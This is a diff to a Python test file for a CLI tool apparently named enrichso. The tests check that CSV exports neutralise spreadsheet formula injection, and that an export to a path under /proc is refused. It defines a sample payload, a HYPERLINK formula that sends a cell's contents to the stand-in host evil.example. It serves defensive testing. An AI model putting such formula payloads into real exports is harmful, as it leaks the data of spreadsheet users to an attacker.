@@ -23,6 +23,7 @@ from enrichso.cli.tabular.source import InputFile
 
 from .conftest import Org
 from .files import read_csv, read_csv_text
+from .hostile import HostileRun, hostile  # noqa: F401  (the fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
 
@@ -128,3 +129,35 @@ def test_jobs_results_neutralises_what_the_api_sends_back(enrichso, org: Org, tm
     assert read_csv_text(run.stdout)[0]["email"] == "'=cmd@acme.com"  # echoed by the API
     raw = enrichso("jobs", "results", "email-validation", job_id, "--escape-formulas", "none")
     assert read_csv_text(raw.stdout)[0]["email"] == "=cmd@acme.com"
+
+
+def test_an_export_the_api_makes_is_neutralised_and_checked_first(
+    hostile: HostileRun,  # noqa: F811
+    org: Org,
+    tmp_path: Path,
+):
+    refused = hostile(
+        "lead-finder",
+        "export",
+        "-f",
+        "jobTitle=CTO",
+        "--max-results",
+        "3",
+        "-o",
+        "/proc/leads.csv",
+        values={},
+    )
+    assert refused.code == 2, refused.stderr
+    assert [t["type"] for t in org.ledger()["transactions"]] == ["topup"]  # the export never started
+    out = tmp_path / "leads.csv"
+
+    def formula_first(text: str) -> str:  # the first cell of the first row becomes a formula
+        return text.replace("\n", "\n" + HOSTILE.replace('"', "") + " ", 1)
+
+    args = ("lead-finder", "export", "-f", "jobTitle=CTO", "--max-results", "3", "-o", str(out))
+    run = hostile(*args, values={}, csv_text=formula_first)
+    assert run.code == 0, run.stderr
+    rows = read_csv(out)
+    assert len(rows) == 3
+    first = next(iter(rows[0].values()))
+    assert first.startswith("'=HYPERLINK(")
